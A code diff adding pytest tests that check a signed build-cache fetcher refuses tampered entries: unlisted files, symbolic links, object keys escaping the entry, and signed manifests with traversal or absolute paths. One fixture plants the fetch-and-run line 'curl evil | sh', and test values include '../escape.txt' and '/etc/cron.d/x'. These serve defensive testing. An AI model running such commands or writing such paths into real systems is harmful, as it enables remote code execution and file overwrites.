@@ -262,3 +262,87 @@ def test_with_trusted_keys_a_step_is_expanded_from_its_entry_only_once_fetched_a
     result = runner.run([g["root"]])
     assert result.ok and result.count(Outcome.RAN) == 0 and len(result.steps) == 3, result.steps
     assert calls(counter) == built
+
+
+# -- exactly what was signed -------------------------------------------------------------------
+
+
+def test_a_signed_entry_with_a_file_its_manifest_does_not_list_is_refused(tmp_path, built, counter, caplog):
+    cache = tmp_path / "cache"
+    names = _push(built, str(cache), counter, CI)
+    (cache / names["sig/e"] / "extra.sh").write_text("curl evil | sh\n")  # no signature covers it
+    (cache / names["sig/b"] / ".marin" / "hooks.json").write_text("{}")  # nor a record the store knows
+    # A cut-off attempt here left a file: a fetch publishes the entry's files, not it.
+    leftover = tmp_path / "fresh" / names["sig/a"] / "partial.tmp"
+    leftover.parent.mkdir(parents=True)
+    leftover.write_text("cut off")
+
+    result = _fetch(tmp_path, str(cache), counter, caplog)
+    assert sorted(_refusals(caplog)) == [
+        f"cache entry {names['sig/b']} from {cache} refused: file '.marin/hooks.json' is neither in its manifest nor "
+        "one of its records; rebuilding it here",
+        f"cache entry {names['sig/e']} from {cache} refused: file 'extra.sh' is not in its manifest (no signature "
+        "covers it); rebuilding it here"]
+    assert result.by_name("sig/e").outcome is Outcome.RAN and result.by_name("sig/b").outcome is Outcome.RAN
+    assert not (tmp_path / "fresh" / names["sig/e"] / "extra.sh").exists()
+    assert not (tmp_path / "fresh" / names["sig/b"] / ".marin" / "hooks.json").exists()
+    assert result.by_name("sig/a").outcome is Outcome.CACHED and not leftover.exists()  # fetched to build sig/b
+
+
+def test_a_file_that_is_a_symbolic_link_refuses_the_entry(tmp_path, built, counter, caplog):
+    cache = tmp_path / "cache"
+    names = _push(built, str(cache), counter, CI)
+    entry = cache / names["sig/e"]
+    elsewhere = tmp_path / "secret.txt"  # the same bytes: the manifest and signature still match
+    elsewhere.write_bytes((entry / "out.txt").read_bytes())
+    (entry / "out.txt").unlink()
+    (entry / "out.txt").symlink_to(elsewhere)
+    result = _fetch(tmp_path, str(cache), counter, caplog)
+    assert _refusals(caplog) == [f"cache entry {names['sig/e']} from {cache} refused: file 'out.txt' is a symbolic "
+                                 "link; rebuilding it here"]
+    assert result.by_name("sig/e").outcome is Outcome.RAN
+
+
+@pytest.mark.parametrize("key, shown", [("../escape.txt", "'../escape.txt'"), ("/abs.txt", "'/abs.txt'")])
+def test_an_object_key_leaving_the_entry_is_refused_before_anything_is_written(tmp_path, built, counter, caplog,
+                                                                               strict_gcs_bucket, key, shown):
+    cache = strict_gcs_bucket + "/cache"
+    names = _push(built, cache, counter, CI)
+    # An object store's keys are free text: "<entry>/../escape.txt" is listed under the entry.
+    fs.atomic_write(f"{cache}/{names['sig/e']}/{key}", b"written outside the step's folder\n")
+    assert any(rel == key for rel, _ in fs.walk_files(f"{cache}/{names['sig/e']}"))
+    result = _fetch(tmp_path, cache, counter, caplog)
+    assert _refusals(caplog) == [f"cache entry {names['sig/e']} from {cache} refused: file {shown} is not in its "
+                                 "manifest (no signature covers it); rebuilding it here"]
+    assert result.by_name("sig/e").outcome is Outcome.RAN
+    here = tmp_path / "fresh"
+    assert {p.name for p in (here / "sig").iterdir()} <= {n.split("/")[1] for n in names.values()}
+    assert not list(here.rglob("escape.txt")) and not list(here.rglob("abs.txt"))
+
+
+@pytest.mark.parametrize("name, why", [
+    ("../escape.txt", "its name climbs out of the step's folder ('..')"),
+    ("a/../../escape.txt", "its name climbs out of the step's folder ('..')"),
+    ("/etc/cron.d/x", "its name is absolute"),
+    ("a//b", "its name is not normalised (an empty or '.' part)"),
+    ("./out.txt", "its name is not normalised (an empty or '.' part)"),
+    (".marin/success.json", "its name is inside .marin/ or .attempts/, which the store keeps for itself"),
+    ("", "its name is empty"),
+])
+def test_a_manifest_naming_a_file_outside_the_entry_is_refused_even_when_signed(tmp_path, built, counter, name, why):
+    cache = tmp_path / "cache"
+    names = _push(built, str(cache), counter, None)
+    entry = StepRecord(str(cache / names["sig/e"]))
+    manifest = entry.read_json(entry.manifest)
+    success = entry.read_success()
+    assert manifest is not None and success is not None and success.hash is not None
+    manifest["files"].append({"path": name, "size": 3, "sha256": hashlib.sha256(b"bad").hexdigest()})
+    entry.write_json(entry.manifest, manifest)
+    fingerprint = Fingerprint.of(names["sig/e"], success.hash, manifest, success)
+    entry.write_json(entry.signatures, EntrySignatures(fingerprint.to_json(), (CI.sign(fingerprint.message()),))
+                     .to_json())  # a trusted key signed it: a name is checked all the same
+    hit = CacheHit(str(cache), entry.output_path, names["sig/e"])
+    with pytest.raises(CacheMiss) as refused:
+        substitute(hit, str(tmp_path / "here" / names["sig/e"]), trusted=[CI.public()], step_hash=success.hash)
+    assert str(refused.value) == f"cache entry {names['sig/e']} from {cache} refused: file {name!r} of its manifest: {why}"
+    assert not (tmp_path / "here").exists()
